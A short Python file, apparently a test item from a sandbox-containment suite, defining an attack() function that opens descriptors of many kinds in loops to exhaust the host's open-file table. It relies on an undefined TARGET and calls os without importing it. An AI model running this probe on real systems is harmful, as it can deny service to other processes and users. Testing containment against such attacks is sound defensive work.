# Opens descriptors of every kind until it is stopped.
# The table of open files is the machine's.
# contained: passed
# in the open: succeeds
import select
import socket


def attack():
    keep, enough = [], 3 * TARGET["open_files"]
    for make in (
        lambda: os.open("/dev/null", os.O_RDONLY),
        lambda: os.open("/tmp", os.O_RDONLY),
        os.pipe,
        socket.socketpair,
        select.epoll,
        lambda: os.eventfd(0),
        lambda: os.dup(0),
    ):
        for _ in range(enough):
            try:
                keep.append(make())
            except OSError:
                break
    total = sum(2 if isinstance(thing, tuple) else 1 for thing in keep)
    return f"{total} descriptors" if total > TARGET["open_files"] else None
